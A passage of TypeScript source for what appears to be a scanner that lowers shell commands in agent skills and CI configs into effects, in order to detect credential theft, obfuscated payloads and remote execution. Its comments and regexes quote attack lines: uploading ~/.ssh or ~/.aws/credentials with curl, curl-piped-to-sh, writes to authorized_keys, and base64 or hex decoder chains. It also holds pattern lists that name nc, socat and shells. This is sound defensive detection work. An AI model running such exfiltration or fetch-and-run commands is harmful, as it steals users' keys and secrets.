/**
 * Shell → effects. Reads a script (a .sh file, a lifecycle command, a fenced block in SKILL.md) command by
 * command and records what each one reads, archives, encodes, sends, fetches, writes and runs. Variables and
 * files link commands: `D=$(mktemp -d); cp -r ~/.ssh $D; tar czf /tmp/b.tgz $D` then, in another block or
 * file, `curl -F f=@/tmp/b.tgz https://x` is one flow (read ssh-keys → archive → send). Text piped through a
 * decoder into a shell is decoded and lowered again, marked `decoded`.
 */
import { gunzipSync } from 'node:zlib';
import path from 'node:path';
import { decodeBase64, decodeHex, decodeRot13, isMostlyPrintable } from '../analyzers/decode.js';
import { PAYLOAD_PLACEHOLDER } from '../analyzers/shell.js';
import { LITERAL_PUBLIC_KEY } from '../analyzers/patterns.js';
import { INSTRUCTION_FILE, wmiConsumerCommand, PRESIGNED_URL, TRUSTED_HOST_CLASSES, broadDefenderExclusion, classifyEnvName, classifyHost, classifySecretPath, classifyWriteLocation, credentialStoreOf, destroysRecovery, keyFolderOf, persistenceOf, registryRedirect, pushedRepositoryOf, startsNothing, startupOf, weakenedGuard } from './classify.js';
import { type ConfigCommand, redirectedRegistries, scheduledCommands } from './tool-configs.js';
import type { Effect, HostClass, Lang, Reach } from './types.js';

export interface ShellOptions {
  file: string;
  firstLine: number;
  reach: Reach;
  /** Variables are shared within a scope (one SKILL.md, one script file). */
  scope: string;
  lang?: Lang;
  decoded?: boolean;
  depth?: number;
  /** The variables of the script a substitution or a `sh -c` string runs in (`X=$(curl -F "f=@$SNAP" …)` sees SNAP). */
  outer?: ShellScope;
  /** The commands run in a repository's own CI pipeline: its `npm publish` releases that repository (ConfigCommand.ci). */
  ownRepository?: boolean;
  /**
   * The repository's remotes (`git remote add NAME URL`), shared by the commands of one file that run one after
   * another in their own shells (a Makefile's recipe lines): a remote outlives the shell that added it.
   */
  gitRemotes?: Map<string, string>;
  /**
   * Where the JavaScript programs `node -e` is given go (its code, the arguments after it as the script's variables
   * expand them, the command's file and line): the emulator runs them as the files they stand for (collect.ts).
   */
  inlineNode?: InlineNodeProgram[];
}

/** A program run with `node -e CODE [ARGS…]` (or `--eval`, `-p`, `--print`). */
export interface InlineNodeProgram {
  file: string;
  line: number;
  code: string;
  args: string[];
}

/** A script's variables as a nested lowering starts from them (a copy: a subshell does not change its parent's). */
export interface ShellScope {
  vars: ReadonlyMap<string, string[]>;
  ownVars: ReadonlySet<string>;
  vals: ReadonlyMap<string, string>;
  loopVars: ReadonlyMap<string, string[]>;
}

const MAX_DEPTH = 3;
const SHELLS = /^(?:ba|z|da|k|fi)?sh$|^(?:bash|sh|zsh|dash|ksh|fish|python[23]?|node|perl|ruby|php|pwsh|powershell(?:\.exe)?|iex|invoke-expression|source|\.|osascript|cmd(?:\.exe)?)$/i;
const DECODERS = /\bbase64\s+(?:-d|--decode|-D)\b|\bxargs\s+(?:-0\s+)?printf\s+["']?%b|\bxxd\s+-r|\bopenssl\s+(?:enc\s+)?-(?:d|base64)|\bbase32\s+-d|\brev\b|\btr\s+['"]?[A-Za-z]-|\bgunzip\b|\bzcat\b|\bFromBase64String\b|\bb64decode\b|\batob\b/i;

/**
 * The language translators (src/inspect/lang), once loaded: an inline program (`python3 -c "…"`, `ruby -e "…"`) is
 * lowered by its language as a script file is. Set by the effects collector when it loads them; until then an inline
 * program is read for the commands its strings hold.
 */
type InlineLowerer = (lang: 'python' | 'ruby', code: string, file: string, reach: Reach) => Effect[];
let inlineLowerer: InlineLowerer | undefined;
/** A key of an `.npmrc` file: npm leaves every one out of what it publishes (the login, never the package's content). */
export const NPMRC_KEY = /(?:^|[\\/])\.npmrc$/;

export function setInlineLowerer(fn: InlineLowerer): void {
  inlineLowerer = fn;
}
/**
 * A command another tool runs from a configuration file (./tool-configs.ts), lowered as shell. A CI step's `npm
 * publish` releases the repository the pipeline runs in, to the registry it belongs on: not a drop site.
 */
export function lowerConfigCommand(c: ConfigCommand, opts: ShellOptions): Effect[] {
  const effects = lowerShell(c.command, c.ci ? { ...opts, ownRepository: true } : opts);
  // (a step after a privileged workflow checked out a pull request's head runs that pull request's code)
  if (c.pullRequestCode) {
    const step = c.command.split('\n').pop()!.trim();
    const head = { file: opts.file, line: c.line, lang: 'shell' as const, reach: opts.reach, host: 'the pull request head', hostClass: 'unknown' as const };
    const key = `pull-request-head@${opts.file}`;
    effects.push({ ...head, kind: 'fetch', produces: [key], evidence: `checks out the pull request's head in a pull_request_target job` });
    effects.push({ ...head, kind: 'exec', origin: 'downloaded', command: step.slice(0, 120), consumes: [key], evidence: `runs the code of whoever opened the pull request: ${step}`.slice(0, 200) });
  }
  // A CI step's environment holds what its `env:` took from the repository's secrets (tool-configs.ts spells it
  // `X="$REPOSITORY_SECRETS"`): code the step downloads and runs there has them, as good as sent to its host.
  if (c.ci && c.command.includes('"$REPOSITORY_SECRETS"; ')) {
    const secrets = effects.filter((e) => e.kind === 'read' && e.path === '$REPOSITORY_SECRETS').flatMap((e) => e.produces ?? []);
    for (const x of effects.filter((e) => e.kind === 'exec' && e.origin === 'downloaded' && e.host && e.hostClass && !TRUSTED_HOST_CLASSES.includes(e.hostClass)))
      effects.push({ file: x.file, line: x.line, lang: x.lang, reach: x.reach, ...(x.decoded ? { decoded: true } : {}), kind: 'send', host: x.host, hostClass: x.hostClass, ...(x.url ? { url: x.url } : {}), channel: 'http', carries: ['env-secrets'], consumes: secrets, evidence: `the step's environment holds the repository's secrets, and code from ${x.host} runs in it: ${x.evidence}`.slice(0, 200) });
  }
  return effects;
}

/** The prose lowering (./prose.ts registers it): what a command hands the agent as its prompt is read as instructions. */
type ProseLowerer = (text: string, file: string, reach: Reach) => Effect[];
let proseLowerer: ProseLowerer | undefined;
/** prose.ts writtenInstructions: text written into a file the agent reads as instructions. */
let instructionWriter: ((text: string, file: string, reach: Reach, into: string) => Effect[]) | undefined;
export function setProseLowerer(fn: ProseLowerer, written: NonNullable<typeof instructionWriter>): void {
  proseLowerer = fn;
  instructionWriter = written;
}
const INLINE_PROGRAM = /\b(python[23]?|ruby)(?:\.exe)?\s+(?:-[A-Za-z]+\s+)*-[ce]\s|\b(python[23]?|ruby)(?:\.exe)?\b[^<\n]*<<-?\s*['"]?[A-Za-z_]/;
/** Which translator an interpreter's inline program in `text` needs (`python3 -c`, `ruby -e`), for loading it first. */
export function inlineProgramLang(text: string): 'python' | 'ruby' | undefined {
  const m = INLINE_PROGRAM.exec(text);
  return m ? ((m[1] ?? m[2]).startsWith('python') ? 'python' : 'ruby') : undefined;
}

/** A program handed to its interpreter as a here-document: its language and text, by the line of the command. */
interface HeredocProgram {
  lang: 'python' | 'ruby';
  body: string;
  /** The line (0-based, in the script) of the command that hands it over: its body's lines follow. */
  at: number;
}

/**
 * Programs a script hands its interpreter as a here-document (`python3 - "$HOME" <<'PY'` … `PY`, `ruby <<EOF`): the
 * interpreter runs the body, so the command's line keeps only the command (`python3 - "$HOME"`), the body's lines are
 * blanked for the shell (they are not commands; line numbers kept) and the body is kept by the command's line, for the
 * lowering to hand the language's translator with the command's arguments as they expand (lowerShell).
 */
function heredocPrograms(text: string, programs: Map<number, HeredocProgram>): string {
  if (!inlineLowerer || !text.includes('<<')) return text;
  const lines = text.split('\n');
  for (let i = 0; i < lines.length; i++) {
    const m = /^(.*?\b(?:python[23]?|ruby)(?:\.exe)?(?:\s+[^<|;&\s]+)*?)\s*<<(-?)\s*(['"]?)([A-Za-z_][\w-]*)\3\s*$/.exec(lines[i]);
    if (!m || /<<</.test(lines[i])) continue;
    const strip = (l: string) => (m[2] ? l.replace(/^\t+/, '') : l);
    const end = lines.findIndex((l, j) => j > i && strip(l).trim() === m[4]);
    if (end < 0 || end - i > 2000) continue;
    programs.set(i, { lang: /\bruby\b/.test(m[1]) && !/\bpython/.test(m[1]) ? 'ruby' : 'python', body: lines.slice(i + 1, end).map(strip).join('\n'), at: i });
    lines[i] = m[1];
    for (let j = i + 1; j <= end; j++) lines[j] = '';
    // (a substitution the program runs in closes after the body, `payload=$(python3 - "$F" <<'PY'` … `PY` `)`: the
    // command's line gets its closing parenthesis, and what follows it)
    const opens = (m[1].match(/\$\(/g) ?? []).length - (m[1].match(/\)/g) ?? []).length;
    if (opens > 0 && /^\s*\)/.test(lines[end + 1] ?? '')) {
      lines[i] = `${m[1]}${lines[end + 1]!.trim()}`;
      lines[end + 1] = '';
    }
    i = end;
  }
  return lines.join('\n');
}

/** A model provider's endpoint in OpenClaw's config (`models.providers.openai.baseUrl`). */
const PROVIDER_ENDPOINT_KEY = /^models\.providers\.[\w-]+\.(?:baseUrl|baseURL|base_url|endpoint|apiBase|url)$/;

/** Normalise a path so the same file links across commands and languages. */
export function fileKey(p: string): string {
  return `file:${foldTempDir(p.replace(/^["']|["']$/g, '').replace(/^\$\{?HOME\}?|^%USERPROFILE%|^\$env:USERPROFILE|^\$env:HOME/i, '~').replace(WORKING_DIR, '').replace(/\\/g, '/').replace(/\/+$/, ''))}`;
}
/**
 * The directory a command runs in, however a script names it (`$ROOT/` set from `git rev-parse --show-toplevel`,
 * `$PWD/`, `$(pwd)/`): a path under it is the relative path another language's script opens.
 */
const WORKING_DIR = /^(?:\$\{?(?:ROOT|REPO|REPO_?ROOT|PROJECT_?ROOT|PROJECT_?DIR|TOPLEVEL|TOP|PWD|CWD|WORKDIR)\}?|\$\((?:pwd|git\s+rev-parse\s+--show-toplevel)\))\//;

/** An Authorization header whose credential is written out (no variable or placeholder left in it). */
const LITERAL_AUTH = /^["']?authorization:\s*(?:bearer|token|bot)\s+[A-Za-z0-9._~+/=-]{20,}["']?$/i;

/**
 * The temporary directory however a script spells it (`/tmp`, `${TMPDIR:-/tmp}`, `$env:TEMP`, Python's
 * `tempfile.gettempdir()`, Ruby's `Dir.tmpdir`): one key, so a file one step writes there links to the next
 * step's read in another language.
 */
export function foldTempDir(p: string): string {
  return p.replace(/^(?:\$\{TMPDIR(?::?-[^}]*)?\}|\$TMPDIR\b|\$\{?TE?MP\}?|%TE?MP%|\$env:TE?MP\b|\/tmp)(?=\/|$)/i, '%TEMP%');
}

interface Cmd {
  words: string[];
  raw: string;
  line: number;
  /** Index of this command in its pipeline and the pipeline's commands. */
  pipe: Cmd[];
  pos: number;
  redirectOut?: string;
  redirectIn?: string;
  append?: boolean;
  background?: boolean;
}

/** A command line's words as the shell reads them: quotes removed, a word's touching pieces joined. */
const ANSI_C: Record<string, string> = { n: '\n', t: '\t', r: '\r', a: '\x07', b: '\b', e: '\x1b', f: '\f', v: '\v', '\\': '\\', "'": "'", '"': '"' };
function ansiC(t: string): string {
  return t.replace(/\\(x[0-9a-fA-F]{1,2}|[0-7]{1,3}|.)/g, (m, e: string) => (e[0] === 'x' && e.length > 1 ? String.fromCharCode(parseInt(e.slice(1), 16)) : /^[0-7]+$/.test(e) ? String.fromCharCode(parseInt(e, 8)) : ANSI_C[e] ?? m));
}

/**
 * `git config --global core.hooksPath DIR` (or init.templateDir) in git's words after `git`: the user's or the machine's
 * hooks folder, whose scripts run on every commit, push and checkout in every repository (not a `--get` or `--unset`,
 * not a repository's own setting). Read by the shell's lowering and the languages' (lang/command.ts) alike.
 */
export function setsUserHooks(args: readonly string[]): boolean {
  return args.includes('config') && args.some((a) => /^--(?:global|system)$/.test(a)) && args.some((a) => /^(?:core\.hookspath|init\.templatedir)$/i.test(a)) && !args.some((a) => /^--(?:get|unset)/.test(a));
}

export function tokenize(s: string): string[] {
  const out: string[] = [];
  // A word's pieces join where they touch: `k=$(cat ~/.ssh/id_rsa)` is one word, its substitution kept whole.
  // (an escaped quote outside quotes is that quote: `'it'\''s'` is one word; other backslashes stay, as in C:\Users)
  // (`$'\n'`, ANSI-C quoting, is the text its escapes spell)
  // (a substitution inside double quotes has quotes of its own: `v="$(curl -H "X-Id: $id" …)"` is one word)
  const re = /"((?:\$\((?:[^()]|\((?:[^()]|\([^()]*\))*\))*\)|[^"\\$]|\$(?!\()|\\.)*)"|\$'((?:[^'\\]|\\.)*)'|'([^']*)'|\\(['"])|\$\((?:[^()]|\((?:[^()]|\([^()]*\))*\))*\)|`[^`]*`|<\([^)]*\)|(?:[^\s"'$`\\]|\\(?!['"]))+|[$`]/g;
  let cur = '';
  let last = -1;
  for (const m of s.matchAll(re)) {
    const piece = m[1] !== undefined ? m[1].replace(/\\(["\\$`])/g, '$1') : m[2] !== undefined ? ansiC(m[2]) : (m[3] ?? m[4] ?? m[0]);
    if (m.index !== undefined && m.index === last && cur) cur += piece;
    else {
      if (cur) out.push(cur);
      cur = piece;
    }
    last = (m.index ?? 0) + m[0].length;
  }
  if (cur) out.push(cur);
  return out;
}

/** A command line that ends inside the quoted program of an interpreter's `-c` / `-e` (the quote not yet closed). */
const OPEN_INLINE_PROGRAM = /(?:^|[\s;&|(])(?:python[23]?|ruby|node|perl|php|(?:ba|z|da|k)?sh)(?:\.exe)?\s+(?:-[A-Za-z]+\s+)*-[A-Za-z]*[ce]\s+(["'])(?:(?!\1)[^\\]|\\[\s\S])*$/;

/** Split a script into pipelines of commands with their line numbers (heredocs kept with their command). */
/** `NAME='…` or `NAME="…` whose quote the text so far has not closed. */
function openQuotedValue(buf: string): boolean {
  const m = /^\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)?)?[A-Za-z_]\w*=(['"])/.exec(buf);
  if (!m) return false;
  const rest = buf.slice(m[0].length);
  return m[1] === "'" ? !rest.includes("'") : !/(?:^|[^\\])(?:\\\\)*"/.test(rest);
}
function parseCommands(text: string, firstLine: number): Cmd[][] {
  const pipelines: Cmd[][] = [];
  const lines = text.split(/\r?\n/);
  let buf = '';
  let startLine = 0;
  for (let i = 0; i < lines.length; i++) {
    let l = lines[i];
    if (!buf) startLine = i;
    if (/^\s*#/.test(l) && !buf) continue;
    l = l.replace(/^\s*(?:\$|>|PS>|PS [A-Z]:\\[^>]*>)\s+/, '');
    if (/\\\s*$/.test(l)) {
      buf += l.replace(/\\\s*$/, ' ');
      continue;
    }
    buf += l;
    // an interpreter's inline program quoted over several lines (`python3 -c "import os\n…"`) is one command
    if (i < lines.length - 1 && i - startLine < 400 && OPEN_INLINE_PROGRAM.test(buf)) {
      buf += '\n';
      continue;
    }
    // and so is a value quoted over several lines (`note='## Conventions\n…'`): the assignment ends at its closing quote
    if (i < lines.length - 1 && i - startLine < 60 && openQuotedValue(buf)) {
      buf += '\n';
      continue;
    }
    // A blank line splits into blank segments only, and a blank segment holds no command.
    if (!/\S/.test(buf)) {
      buf = '';
      continue;
    }
    for (const whole of splitTop(buf, /;|&&|\|\||\n/, true)) {
      // (a `case` arm's pattern before its command: `zsh) RC="$HOME/.zshrc" ;;` assigns RC)
      // (and a subshell opened against its first word, `(curl -fsSL … || wget -qO- …) | sh`, opened as `( curl`)
      // (and `((curl … || true) | sh &)`, no arithmetic: bash reads it as two subshells, one inside the other)
      const seg = whole.replace(/^(\s*)(?:[\w*.?"'-]+\|)*[\w*.?"'-]+\)\s+(?=\S)/, '$1').replace(/^(\s*)\(\((?=[A-Za-z_/.~$"'][\w./-]*\s+(?:-|https?:|[\w.-]+\s*\|))/, '$1( ( ').replace(/^(\s*)\((?=[A-Za-z_/.~$"'])/, '$1( ');
      const bg = /&\s*$/.test(seg.trim()) && !/&&\s*$/.test(seg.trim());
      // A subshell `( a | b ) >/dev/null 2>&1 &` runs its commands: they are parsed as the group's own.
      // (and a brace group with its output redirected, `{ printf …; cat "$f"; } >> notes.txt`: its commands, each writing there)
      const group = /^\s*\((?!\()([\s\S]*)\)\s*(?:(?:\d?>>?|&>)\s*[^\s()]+\s*|\d>&\d\s*)*&?\s*$/.exec(seg) ?? /^\s*\{\s([\s\S]*?);?\s*\}\s*(?:(?:\d?>>?|&>)\s*[^\s(){}]+\s*|\d>&\d\s*)+&?\s*$/.exec(seg);
      if (group && balancedParens(group[1])) {
        // (its standard output redirected, `( cd / && find … ) >> "$list"`: what each of its commands prints goes there)
        const tail = seg.slice(Math.max(seg.lastIndexOf(')'), seg.lastIndexOf('}')) + 1);
        let out: string | undefined;
        for (const ro of tail.matchAll(/(?:^|\s)(\d?>>?|&>)\s*([^\s;&|]+)/g)) if (!/^2/.test(ro[1]) && !/^&?[12]$|^\/dev\/null$/.test(ro[2])) out = ro[2];
        for (const p of parseCommands(group[1], firstLine + startLine)) {
          const last = p[p.length - 1];
          if (bg) last.background = true;
          if (out && !last.redirectOut && !/^(?:cd|pushd|popd|export|set|unset|true|false|:|shift|local|readonly|umask|trap)$/.test(last.words[0] ?? '')) (last.redirectOut = out), (last.append = true);
          pipelines.push(p);
        }
        continue;
      }
      const parts = splitTop(seg.replace(/&\s*$/, ''), /\|(?!\|)/);
      // A group piped on (`{ id; cat ~/.aws/credentials; env; } | gzip | curl -d @- …`): each of its commands' output
      // goes down the same pipe, so each is read as the first stage of that pipe, on this line.
      const piped = parts.length > 1 ? /^\s*(?:\{\s([\s\S]*?);?\s*\}|\(([\s\S]*)\))\s*$/.exec(parts[0]) : null;
      const members = piped ? splitTop(piped[1] ?? piped[2], /;|\n/).filter((m) => /\S/.test(m)) : [];
      if (members.length > 1 && members.length <= 16) {
        const rest = parts.slice(1).join('|');
        for (const p of parseCommands(members.map((m) => `${m.trim()} | ${rest}`).join(' ; '), firstLine + startLine)) {
          if (bg) p[p.length - 1].background = true;
          pipelines.push(p);
        }
        continue;
      }
      const pipe: Cmd[] = [];
      parts.forEach((p, pos) => {
        let raw = p.trim();
        if (!raw) return;
        let redirectOut: string | undefined;
        let redirectIn: string | undefined;
        let append = false;
        // standard output's last redirection (`cat x > out 2>/dev/null`: `out`); stderr's and discards are not a file written
        // (what ssh hands the remote host, `ssh host '… >> ~/.ssh/authorized_keys'`, redirects there, not here)
        const remote = /^\s*ssh\s/.test(raw) ? quotedSpans(raw) : [];
        for (const ro of raw.matchAll(/(?:^|\s)(\d?>>?|&>)\s*([^\s;&|()]+)/g)) {
          if (/^2/.test(ro[1]) || /^&?[12]$|^\/dev\/null$/.test(ro[2])) continue;
          if (remote.some(([a, z]) => ro.index! >= a && ro.index! < z)) continue;
          // (a word's quoted pieces joined: `>> "$HOME/.ssh/authorized_""keys"` is authorized_keys)
          redirectOut = /["']\S*["']/.test(ro[2]) ? tokenize(ro[2])[0] ?? ro[2] : ro[2];
          append = />>/.test(ro[1]);
        }
        const ri = /(?:^|\s)<\s*([^\s<(;&|]+)/.exec(raw);
        if (ri) redirectIn = ri[1];
        // redirections are cut from the words, not from quoted text (`printf '… 2>&1\n' > f` keeps its format)
        raw = raw.replace(REDIRECTION, (m) => (m[0] === '"' || m[0] === "'" ? m : ' '));
        const words = tokenize(raw);
        if (!words.length) return;
        pipe.push({ words, raw: p.trim(), line: firstLine + startLine, pipe, pos, redirectOut, redirectIn, append, background: bg && pos === parts.length - 1 });
      });
      if (pipe.length) pipelines.push(pipe);
    }
    buf = '';
  }
  return pipelines;
}

// (a target ends at a parenthesis: `v=$(curl … 2>/dev/null)` keeps the substitution's closing one)
const REDIRECTION = /"(?:[^"\\]|\\.)*"|'[^']*'|\s(?:\d?>>?|&>)\s*(?:"(?:[^"\\]|\\.)*"|'[^']*'|[^\s'"()]+)+/g;

/** Whether every parenthesis of `s` outside quotes closes one opened before it. */
function balancedParens(s: string): boolean {
  let depth = 0;
  let q: string | undefined;
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (q) {
      if (c === q && s[i - 1] !== '\\') q = undefined;
    } else if (c === '"' || c === "'") q = c;
    else if (c === '(') depth++;
    else if (c === ')' && --depth < 0) return false;
  }
  return depth === 0;
}

/**
 * The target's own script a command runs, as the scope of its lowering names it (collect.ts lowers each file in the
 * scope of its path): `{baseDir}/bin/snap.sh` from SKILL.md is `bin/snap.sh`; `"$(dirname "$0")/rotate.sh"` or
 * `"$DIR/rotate.sh"` from `bin/snap.sh` is `bin/rotate.sh`. Undefined for anything else (an absolute path, a URL).
 */
/** An option whose value is the file a command writes (`-o`, `--out`, `--output`, `--dest`). */
const OUTPUT_NAMES = '(?:out(?:put)?|out-?file|output-file|dest(?:ination)?|save-to)';
const OUTPUT_OPTION = new RegExp(`^(?:-o|--${OUTPUT_NAMES})$`);
/** The same option with its value attached (`--out=~/backup/key.pem`). */
const OUTPUT_OPTION_VALUE = new RegExp(`^--${OUTPUT_NAMES}=`);

function ownScriptOf(word: string, scope: string): string | undefined {
  if (!/\.(?:sh|bash|zsh|py|rb|js|mjs|cjs|pl|ps1)$/i.test(word) || /:\/\//.test(word) || !/\.[\w]+$/.test(scope)) return undefined;
  // (a command in a skill's markdown names the skill's files from its root, whichever document it is in)
  const fromRoot = /^\{baseDir\}\//.test(word) || /\.md$/i.test(scope);
  const tail = word.replace(/^\{baseDir\}\//, '').replace(/^.*[)}]\//, '').replace(/^\$\w+\//, '').replace(/^\.\//, '');
  if (!tail || tail.startsWith('/') || tail.startsWith('~') || tail.includes('$')) return undefined;
  return fromRoot ? path.posix.normalize(tail) : path.posix.normalize(path.posix.join(path.posix.dirname(scope), tail));
}

/** Split at a separator outside quotes, $( ), backticks and braces. */
/** Where a command line's quoted strings are (start, end), for telling what is inside them. */
function quotedSpans(raw: string): Array<[number, number]> {
  return [...raw.matchAll(/'[^']*'|"(?:[^"\\]|\\.)*"/g)].map((m) => [m.index!, m.index! + m[0].length]);
}

/**
 * `s` split at the separators `sep` matches outside quotes, parentheses and braces. With `background`, a command put in
 * the background ends there too (`(curl … | sh) >/dev/null 2>&1 & touch marker`: two commands), its `&` kept on it
 * (a lone `&` with a command after it: not `&&`, `2>&1`, `&>`).
 */
export function splitTop(s: string, sep: RegExp, background = false): string[] {
  const out: string[] = [];
  let depth = 0;
  let q: string | undefined;
  // The current part is s[start..i]: sliced out at a separator, not grown a character at a time.
  let start = 0;
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (q) {
      if (c === q && s[i - 1] !== '\\') q = undefined;
      continue;
    }
    if (c === '"' || c === "'" || c === '`') {
      q = c;
      continue;
    }
    if (c === '(' || c === '{') depth++;
    if (c === ')' || c === '}') depth = Math.max(0, depth - 1);
    if (background && c === '&' && depth === 0 && !/[>&<|]/.test(s[i - 1] ?? '') && !/[&>|]/.test(s[i + 1] ?? '') && /^\s*[^\s;&|)}]/.test(s.slice(i + 1))) {
      out.push(s.slice(start, i + 1));
      start = i + 1;
      continue;
    }
    // Every separator splitTop is given starts with one of these characters: no other position can match.
    if (depth === 0 && (c === ';' || c === '&' || c === '|' || c === '\n')) {
      const two = s.slice(i, i + 2);
      const m = sep.exec(two);
      if (m && m.index === 0 && !(m[0] === '|' && two === '||')) {
        out.push(s.slice(start, i));
        i += m[0].length - 1;
        start = i + 1;
        continue;
      }
    }
  }
  out.push(s.slice(start));
  return out;
}

/**
 * What `printf FORMAT ARG…` or `echo [-e] TEXT…` prints when its text is literal: escapes applied, conversions
 * filled with the arguments as they expand. Undefined for any other command.
 */
function printedText(w0: string, args: string[], expand: (w: string) => string): string | undefined {
  // (character escapes too: `\x68`, `\0150` or `\150`, `\u0068`, as printf's format and `%b` argument and `echo -e` read them)
  const esc = (t: string) =>
    t.replace(/\\(?:x([0-9a-fA-F]{1,2})|u([0-9a-fA-F]{4})|0?([0-7]{1,3})|(n|t|r|\\|'|"))/g, (_m, hex?: string, uni?: string, oct?: string, e?: string) =>
      hex ? String.fromCharCode(parseInt(hex, 16)) : uni ? String.fromCharCode(parseInt(uni, 16)) : oct ? String.fromCharCode(parseInt(oct, 8)) : e === 'n' ? '\n' : e === 't' ? '\t' : e === 'r' ? '\r' : e!,
    );
  if (w0 === 'printf' && args[0] !== undefined) {
    let k = 1;
    // (formats are read after escapes, so a `%` a format spells as `\x25` is text, as printf prints it)
    return args[0].split(/(%[-+ #0]*\d*(?:\.\d+)?[sbdq%])/).map((part, i) => (i % 2 === 0 ? esc(part) : part.endsWith('%') ? '%' : part.endsWith('b') ? esc(expand(args[k++] ?? '')) : expand(args[k++] ?? ''))).join('');
  }
  if (w0 === 'echo') return esc(args.filter((a, i) => !(i === 0 && /^-[neE]+$/.test(a))).map(expand).join(' '));
  return undefined;
}

/**
 * What a pipeline that prints literals and decodes them prints: `printf '%s' 'a1b2…' 'c3d4…' | xxd -r -p | base64 -d`
 * (the literals joined, as printf's format repeats for each; line continuations read through), each stage in turn:
 * hex (`xxd -r -p`), base64, `rev`, ROT13. Undefined unless every stage is one of these and the end is text.
 */
function decodedPipeline(src: string): string | undefined {
  const stages = src.replace(/\\\n\s*/g, ' ').split(/\s*\|\s*/);
  if (stages.length < 2) return undefined;
  const head = /^\s*(?:printf\s+(?:(["']?)%s\1\s+)?|echo\s+(?:-[neE]+\s+)?)((?:(["'])[^"'\n]*\3\s*)+)$/.exec(stages[0]!);
  if (!head) return undefined;
  let t = [...head[2]!.matchAll(/(["'])([^"'\n]*)\1/g)].map((m) => m[2]).join('');
  if (t.length < 16) return undefined;
  let bytes: Buffer | undefined; // what the last stage output, as bytes (base64 of a gzip stream)
  for (const stage of stages.slice(1)) {
    // (a stage run through eval, `eval "base64${IFS}-d"`, is its words; ${IFS} is a space)
    const st = stage.replace(/\s*2>\s*\/dev\/null\s*$/, '').trim().replace(/^eval\s+(["']?)(.*)\1$/, '$2').replace(/^(["'])([\w.-]+)\1(?=\s|$)/, '$2').replace(/\$\{IFS\}|\$IFS\b/g, ' ').replace(/\s+/g, ' ').trim();
    let next: string | undefined;
    if (/^tr\s+-d\s+(["']?)\\n\1$/.test(st)) next = t.replace(/\n/g, '');
    else if (/^xxd\s+(?:-r\s+-p|-rp|-p\s+-r|-r)$/.test(st)) next = /^[0-9a-fA-F\s]+$/.test(t) ? decodeHex(t.replace(/\s+/g, '')) : undefined;
    else if (/^(?:base64\s+(?:-d|--decode|-D)|openssl\s+(?:enc\s+)?-base64\s+-d)$/.test(st)) {
      bytes = Buffer.from(t.replace(/\s+/g, ''), 'base64');
      next = bytes[0] === 0x1f && bytes[1] === 0x8b ? bytes.toString('latin1') : decodeBase64(t.replace(/\s+/g, ''));
      if (next === undefined) return undefined;
      t = next;
      continue;
    }
    // (a gzip stream, `… | base64 -d | gunzip -c`)
    else if (/^(?:gunzip|zcat|gzip\s+-[cfqn]*d[cfqn]*)(?:\s+-[cfqn]+)*$/.test(st)) {
      try {
        next = gunzipSync(bytes ?? Buffer.from(t, 'latin1')).toString('utf8');
      } catch {
        next = undefined;
      }
    }
    else if (st === 'rev') next = [...t].reverse().join('');
    // (hex made into escapes and printed: `sed 's/../\\x&/g' | xargs -0 printf '%b'`)
    else if (/^sed\s+(["'])s\/\.\.\/\\{1,2}x&\/g\1$/.test(st) && /^[0-9a-fA-F]+$/.test(t.trim())) next = t.trim().replace(/(..)/g, '\\x$1');
    else if (/^xargs\s+(?:-0\s+)?printf\s+(["']?)%b\1$/.test(st) && /^(?:\\x[0-9a-fA-F]{2})+$/.test(t)) next = decodeHex(t.replace(/\\x/g, ''));
    else if (TR_ROT13_STAGE.test(st)) next = decodeRot13(t);
    if (next === undefined) return undefined;
    t = next;
    bytes = undefined;
  }
  return isMostlyPrintable(t) ? t : undefined;
}

/** A program's name, as a script may hide one reversed or in a variable. */
const PROGRAM_WORD = /^(?:sh|bash|zsh|dash|ksh|eval|curl|wget|nc|ncat|socat|python3?|perl|ruby|node|php|base64|xxd|openssl|powershell|pwsh|iex)$/;
/** `tr` as ROT13 (`tr 'A-Za-z' 'N-ZA-Mn-za-m'`). */
const TR_ROT13 = /tr\s+['"]?(?:A-Za-z|a-zA-Z)['"]?\s+['"]?(?:N-ZA-Mn-za-m|n-za-mN-ZA-M)['"]?/;
const TR_ROT13_STAGE = new RegExp(`^${TR_ROT13.source}$`);
/** A literal printed into `rev` or ROT13 (`printf '%s' "$m" | rev`): the literal, and the stage. */
const PRINTED_REVERSED = new RegExp(String.raw`^\s*(?:echo|printf)\s+(?:-[neE]+\s+)?(?:["']%s["']\s+)?(["'])(.*?)\1\s*\|\s*(rev|${TR_ROT13.source})\s*$`, 's');

/** A substitution that prints where a program is (`$(command -v curl)`, `$(which sh)`): that program, run by name. */
const PROGRAM_PATH_SUB = /\$\(\s*(?:command\s+-v|which|type\s+-[pP])\s+([\w.+-]+)\s*\)/g;
/** A substitution that prints a fact of the user or host (`$(id -u)`, `$(whoami)`, `$(hostname)`, `$(uname -m)`). */
/** The second half of a test a `&&` inside `[[ … ]]` split off (`[[ -L "$d" && "$(readlink "$d")" == "$s" ]]`): no program runs. */
const TEST_TAIL = /(?:^|\s)(?:==|!=|=~|-eq|-ne|-lt|-le|-gt|-ge)\s|\]\]\s*$/;
const HOST_FACT = String.raw`(?:id(?:\s+-[a-zA-Z]+)*|whoami|hostname(?:\s+-[a-zA-Z]+)?|uname(?:\s+-[a-zA-Z]+)*)(?:\s+2>\s*\/dev\/null)?`;
/** (with a fallback, `$(hostname -s 2>/dev/null || hostname)`, still the host's name) */
const HOST_FACT_SUB = new RegExp(String.raw`\$\(\s*${HOST_FACT}(?:\s*\|\|\s*${HOST_FACT})?\s*\)`, 'g');

/** A command that takes a file's digest or checks its signature. */
const DIGESTS = /\b(?:sha(?:1|224|256|384|512)(?:sum)?|shasum|b2sum|openssl\s+dgst|Get-FileHash|gpg\s+--verify|cosign\s+verify\w*|minisign\s+-V)\b/i;

const URL_IN = /\b(?:https?|ftp|wss?):\/\/[^\s'"`<>)|;]+|\b(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?(?:\/[^\s'"`<>)|;]*)?/i;

/**
 * Arguments a loop prints into a command (`curl URL $(for f in /tmp/x-*.txt; do printf -- '-F f=@%s ' "$f"; done)`):
 * the substitution becomes what it prints, the format once for each word of the loop, so the command is read with
 * them (an upload of every file the glob names).
 */
function loopPrintedArguments(text: string): string {
  if (!text.includes('$(for')) return text;
